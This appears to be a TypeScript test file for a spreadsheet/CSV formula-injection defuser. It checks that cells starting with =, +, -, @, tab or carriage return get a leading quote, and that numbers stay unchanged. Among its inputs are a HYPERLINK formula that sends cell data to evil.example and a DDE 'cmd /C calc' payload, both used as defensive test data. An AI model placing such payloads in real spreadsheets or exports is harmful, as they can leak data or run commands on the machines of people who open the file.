import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, defuseText, safeCell, safeRow, undefuseText } from './spreadsheet-safe.ts';

describe('defuseText', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"open")', `'=HYPERLINK("https://evil.example/?"&A1,"open")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ["'=1+1", "''=1+1"],
    ["''@x", "'''@x"],
    ['-', "'-"],
    // Plain numbers are no formulas: 64-bit limits exported as exact text stay readable.
    ['-5', '-5'],
    ['-9223372036854775808', '-9223372036854775808'],
    ['-1.5e3', '-1.5e3'],
    ['-.5', '-.5'],
    ['pump 1 = on', 'pump 1 = on'],
    ["'quoted", "'quoted"],
    ['一号车间', '一号车间'],
    ['', ''],
  ])('%j -> %j', (text, expected) => {
    expect(defuseText(text)).toBe(expected);
  });

  it('undefuseText gives back exactly what defuseText was given, for any text', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '1', '.', 'e', 'a') }),
        ),
        (text) => undefuseText(defuseText(text)) === text,
      ),
      { numRuns: 2000 },
    );
  });

  it('reads a hand-typed leading quote as a spreadsheet shows it', () => {
    expect(undefuseText("'=x")).toBe('=x');
    expect(undefuseText("'abc")).toBe("'abc");
  });
});

describe('safeCell and safeRow', () => {
  it('defuse text cells only: numbers, dates, booleans and empty cells stay what they are', () => {
    const at = new Date(0);
    expect(safeRow({ a: '=1+1', b: -5, c: at, d: null, e: true, f: 'ok' })).toEqual({
      a: "'=1+1",
      b: -5,
      c: at,
      d: null,
      e: true,
      f: 'ok',
    });
    expect(safeRow(['@x', 3, '-3'])).toEqual(["'@x", 3, '-3']);
    expect(safeCell(-5)).toBe(-5);
  });
});

describe('csvField', () => {
  it.each<[string | number | null, string]>([
    [-5, '-5'],
    [12.5, '12.5'],
    [null, ''],
    ['plain', 'plain'],
    ['=HYPERLINK("x")', `"'=HYPERLINK(""x"")"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['-5', '-5'],
    ['a,b', '"a,b"'],
    ['a;=1+1', '"a;=1+1"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
  ])('%j -> %s', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });
});
